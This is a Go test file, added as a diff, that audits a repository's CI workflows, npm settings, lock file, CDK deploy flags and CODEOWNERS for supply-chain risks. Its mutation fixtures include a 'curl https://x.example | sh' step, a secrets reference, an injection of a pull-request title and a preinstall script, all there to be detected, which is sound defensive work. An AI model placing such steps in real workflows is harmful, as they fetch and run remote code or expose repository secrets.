@@ -1,0 +1,299 @@
+package test
+
+import (
+	"encoding/json"
+	"maps"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// What follows is threat S3: what runs with the rights of CI or of a deployer, where a reviewer of Go would not look. That
+// actions are pinned to commits is a test of tools/audit.
+
+// trigger is what may start a workflow. pull_request gives somebody else's change a token that reads; pull_request_target,
+// workflow_run and issue_comment give it the repository's own rights and secrets.
+// https://docs.github.com/en/actions/reference/security/secure-use#mitigating-the-risks-of-untrusted-code-checkout
+var triggers = []string{"push", "pull_request", "schedule", "workflow_dispatch"}
+
+// runs are all commands that workflows run.
+var runs = []string{".ci/run"}
+
+var (
+	// key is a line that begins with a key, and its indentation.
+	key = regexp.MustCompile(`(?m)^([ -]*)["']?([\w-]+)["']?[ \t]*:[ \t]*(.*)$`)
+	// exact is a version that names one package: no range, tag, address or file.
+	exact = regexp.MustCompile(`^\d+\.\d+\.\d+$`)
+)
+
+// workflowProblems are what a workflow must not have. It reads the plain style that ours are written in, and refuses others.
+func workflowProblems(text string) []string {
+	var problems []string
+	add := func(problem string) { problems = append(problems, problem) }
+	for _, line := range strings.Split(text, "\n") {
+		if strings.ContainsAny(strings.Split(line, " #")[0], "&*") && !strings.Contains(line, "cron:") {
+			add("an anchor or alias, which this test does not follow: " + line)
+		}
+	}
+	if strings.Contains(text, "secrets.") || strings.Contains(text, "secrets[") {
+		add("a secret")
+	}
+	// What an event says is written by whoever caused it.
+	if strings.Contains(text, "github.event") || strings.Contains(text, "github.head_ref") {
+		add("an expression that holds what somebody else wrote")
+	}
+	block, permissions, checkouts := "", 0, strings.Count(text, "actions/checkout@")
+	for _, match := range key.FindAllStringSubmatch(text, -1) {
+		indentation, name, value := match[1], match[2], match[3]
+		if indentation == "" {
+			block = name
+		}
+		switch {
+		case name == "on" && value != "":
+			add("triggers that are not one a line")
+		case block == "on" && len(indentation) == 2 && !slices.Contains(triggers, name):
+			add("the trigger " + name)
+		case name == "permissions":
+			permissions++
+			if indentation != "" || value != "" {
+				add("permissions of a job, or all of them")
+			}
+		case block == "permissions" && indentation != "" && (name != "contents" || value != "read"):
+			add("the permission " + name + ": " + value)
+		case name == "persist-credentials" && value == "false":
+			checkouts--
+		case name == "run" && !slices.Contains(runs, value):
+			add("the command " + value)
+		case name == "continue-on-error" || name == "self-hosted" || name == "runs-on" && !strings.HasPrefix(value, "ubuntu-"):
+			add(name + ": " + value)
+		}
+	}
+	if permissions != 1 {
+		add("no permissions, which are then the repository's default")
+	}
+	if checkouts != 0 {
+		add("a checkout that leaves its token behind")
+	}
+	return problems
+}
+
+func TestWorkflowsRunNobodyElsesCodeWithRightsOfOurs(t *testing.T) {
+	var files []string
+	for _, pattern := range []string{"*.yml", "*.yaml"} {
+		found, err := filepath.Glob(filepath.Join(root, ".github", "workflows", pattern))
+		if err != nil {
+			t.Fatal(err)
+		}
+		files = append(files, found...)
+	}
+	if len(files) == 0 {
+		t.Fatal("no workflow: nothing was checked")
+	}
+	for _, file := range files {
+		text := read(t, file)
+		for _, problem := range workflowProblems(text) {
+			t.Errorf("%s has %s", file, problem)
+		}
+		if !strings.Contains(text, "AUDIT_OFFLINE: refused") {
+			t.Errorf("%s: an audit that reached no database would pass (threat S4)", file)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(root, ".github", "actions")); err == nil {
+		t.Error(".github/actions: actions of this repository are not looked at; put commands into .ci/run")
+	}
+}
+
+func read(t *testing.T, file string) string {
+	t.Helper()
+	text, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(text)
+}
+
+func TestADangerousWorkflowIsFound(t *testing.T) {
+	good := read(t, filepath.Join(root, ".github", "workflows", "ci.yml"))
+	for name, change := range map[string][2]string{
+		"another trigger":       {"  pull_request:\n", "  pull_request_target:\n"},
+		"a quoted trigger":      {"  pull_request:\n", "  \"issue_comment\":\n"},
+		"triggers on one line":  {"on:\n", "on: [push, pull_request_target]\nx:\n"},
+		"more rights":           {"  contents: read\n", "  contents: write\n"},
+		"another right":         {"  contents: read\n", "  contents: read\n  id-token: write\n"},
+		"all rights":            {"permissions:\n  contents: read\n", "permissions: write-all\n"},
+		"no rights named":       {"permissions:\n  contents: read\n", ""},
+		"rights of a job":       {"    runs-on:", "    permissions:\n      packages: write\n    runs-on:"},
+		"a token left behind":   {"          persist-credentials: false\n", "          fetch-depth: 0\n"},
+		"a second checkout":     {"      - uses: actions/setup-go", "      - uses: actions/checkout@x\n      - uses: actions/setup-go"},
+		"another command":       {"run: .ci/run", "run: curl https://x.example | sh"},
+		"a command by lines":    {"run: .ci/run", "run: |\n          make check"},
+		"a secret":              {"AUDIT_OFFLINE: refused", "KEY: ${{ secrets.KEY }}"},
+		"a title in a command":  {"AUDIT_OFFLINE: refused", "TITLE: ${{ github.event.pull_request.title }}"},
+		"another machine":       {"runs-on: ubuntu-24.04", "runs-on: self-hosted"},
+		"a failure that passes": {"    timeout-minutes: 45\n", "    continue-on-error: true\n"},
+		"an alias":              {"    timeout-minutes: 45\n", "    env: *shared\n"},
+	} {
+		if !strings.Contains(good, change[0]) {
+			t.Errorf("%s: the workflow has no %q", name, change[0])
+		}
+		if got := workflowProblems(strings.Replace(good, change[0], change[1], 1)); len(got) == 0 {
+			t.Errorf("%s is not found", name)
+		}
+	}
+}
+
+// packageProblems are what package.json must not have: anything that runs while it is installed, or that means another
+// package tomorrow. The npm package node is a program that is fetched by a script, outside the lock file (threat S2).
+func packageProblems(text string) []string {
+	var fields map[string]json.RawMessage
+	if err := json.Unmarshal([]byte(text), &fields); err != nil {
+		return []string{err.Error()}
+	}
+	var problems []string
+	allowed := []string{"name", "private", "description", "license", "devDependencies", "engines"}
+	for name := range fields {
+		if !slices.Contains(allowed, name) {
+			problems = append(problems, "the field "+name)
+		}
+	}
+	var versions map[string]string
+	if err := json.Unmarshal(fields["devDependencies"], &versions); err != nil {
+		return append(problems, err.Error())
+	}
+	for name, version := range versions {
+		if !exact.MatchString(version) || name == "node" {
+			problems = append(problems, name+" "+version)
+		}
+	}
+	return problems
+}
+
+func TestNothingRunsWhilePackagesAreInstalled(t *testing.T) {
+	text := read(t, filepath.Join(root, "package.json"))
+	for _, problem := range packageProblems(text) {
+		t.Errorf("package.json has %s", problem)
+	}
+	var settings []string
+	for _, line := range strings.Split(read(t, filepath.Join(root, ".npmrc")), "\n") {
+		if line = strings.TrimSpace(line); line != "" && !strings.HasPrefix(line, "#") {
+			settings = append(settings, line)
+		}
+	}
+	if want := []string{"ignore-scripts=true", "save-exact=true"}; !slices.Equal(settings, want) {
+		t.Errorf(".npmrc has %q, want %q: other registries, certificates and tokens belong to a machine", settings, want)
+	}
+	for name, change := range map[string][2]string{
+		"a script":      {`"private": true,`, `"private": true, "scripts": {"preinstall": "x"},`},
+		"an exception":  {`"private": true,`, `"private": true, "allowScripts": {"x": true},`},
+		"overrides":     {`"private": true,`, `"private": true, "overrides": {"x": "1.0.0"},`},
+		"dependencies":  {`"private": true,`, `"private": true, "dependencies": {"x": "1.0.0"},`},
+		"node":          {`"vite":`, `"node": "24.21.0", "vite":`},
+		"a range":       {`"vite": "`, `"vite": "^`},
+		"an address":    {`"vite": "`, `"vite": "git+https://x.example/`},
+		"another's tag": {`"vite": "`, `"vite": "npm:other@`},
+	} {
+		if changed := strings.Replace(text, change[0], change[1], 1); changed == text || len(packageProblems(changed)) == 0 {
+			t.Errorf("%s is not found", name)
+		}
+	}
+}
+
+// TestEveryPackageIsPinnedByItsContents: a lock file may name folders and addresses, whose contents may change.
+func TestEveryPackageIsPinnedByItsContents(t *testing.T) {
+	var lock struct {
+		Packages map[string]struct {
+			Integrity        string
+			Link             bool
+			HasInstallScript bool
+			InBundle         bool
+		}
+	}
+	if err := json.Unmarshal([]byte(read(t, filepath.Join(root, "package-lock.json"))), &lock); err != nil {
+		t.Fatal(err)
+	}
+	var scripts []string
+	for _, name := range slices.Sorted(maps.Keys(lock.Packages)) {
+		p := lock.Packages[name]
+		if name != "" && (p.Link || !strings.HasPrefix(p.Integrity, "sha512-")) && !p.InBundle {
+			t.Errorf("%s: integrity %q", name, p.Integrity)
+		}
+		if p.HasInstallScript {
+			scripts = append(scripts, name)
+		}
+	}
+	if len(lock.Packages) < 10 {
+		t.Errorf("package-lock.json has %d packages: nothing was checked", len(lock.Packages))
+	}
+	// What these scripts would do is not needed: classic-level brings a program for each system with it.
+	for _, name := range scripts {
+		if !slices.Contains([]string{"node_modules/classic-level", "node_modules/fsevents"}, name) {
+			t.Errorf("%s has a script that does not run: does it work without?", name)
+		}
+	}
+}
+
+// approves is how the CDK CLI is told to widen rights without asking.
+var approves = regexp.MustCompile(`(?i)require-?approval["']?[\s=:,"']+never`)
+
+// TestADeployAsksBeforeItWidensRights: whoever wants it otherwise says so each time, in ARGS.
+func TestADeployAsksBeforeItWidensRights(t *testing.T) {
+	files := []string{"Makefile", "cdk.json", ".ci/run", "package.json", "main.go"}
+	for _, pattern := range []string{".github/workflows/*", "cmd/*/*.go"} {
+		found, err := filepath.Glob(filepath.Join(root, pattern))
+		if err != nil || len(found) == 0 {
+			t.Fatalf("%s: %v", pattern, err)
+		}
+		for _, file := range found {
+			if !strings.HasSuffix(file, "_test.go") {
+				files = append(files, strings.TrimPrefix(file, root+"/"))
+			}
+		}
+	}
+	for _, file := range files {
+		for _, line := range strings.Split(read(t, filepath.Join(root, file)), "\n") {
+			if approves.MatchString(line) && !strings.HasPrefix(strings.TrimSpace(line), "#") {
+				t.Errorf("%s deploys without asking: %s", file, strings.TrimSpace(line))
+			}
+		}
+	}
+	for line, want := range map[string]bool{
+		"cdk deploy --require-approval never": true, `"requireApproval": "never"`: true, `"--require-approval", "never"`: true,
+		"--require-approval=never": true, "--require-approval broadening": false,
+	} {
+		if approves.MatchString(line) != want {
+			t.Errorf("%s: want %t", line, want)
+		}
+	}
+}
+
+// TestWhatMustNotChangeUnseenHasAnOwner: GitHub asks the owners of CODEOWNERS for a review, of the last pattern that
+// matches. A file without a place in it is anybody's.
+// https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/customizing-your-repository/about-code-owners
+func TestWhatMustNotChangeUnseenHasAnOwner(t *testing.T) {
+	owned := map[string]bool{}
+	for _, line := range strings.Split(read(t, filepath.Join(root, ".github", "CODEOWNERS")), "\n") {
+		fields := strings.Fields(strings.Split(line, "#")[0])
+		if len(fields) == 0 {
+			continue
+		}
+		if len(fields) < 2 || !strings.HasPrefix(fields[1], "@") || strings.ContainsAny(fields[0], "*![") {
+			t.Errorf("CODEOWNERS: %q: want a path and its owners; a pattern may match less than it seems to", line)
+		}
+		if _, err := os.Stat(filepath.Join(root, fields[0])); err != nil {
+			t.Errorf("CODEOWNERS: %v", err)
+		}
+		owned[strings.Trim(fields[0], "/")] = true
+	}
+	for _, path := range []string{
+		".github", ".ci", ".npmrc", "Makefile", "package.json", "package-lock.json", "go.mod", "go.sum", "tools/go.mod", "cdk.json",
+		"internal/gobuild", "constructs/golambda", "config", "access", "accepted-findings.json", "test/testdata", "lambda/tokens",
+		"lambda/registration", "lambda/contract",
+	} {
+		if !owned[path] {
+			t.Errorf("CODEOWNERS does not name %s", path)
+		}
+	}
+}
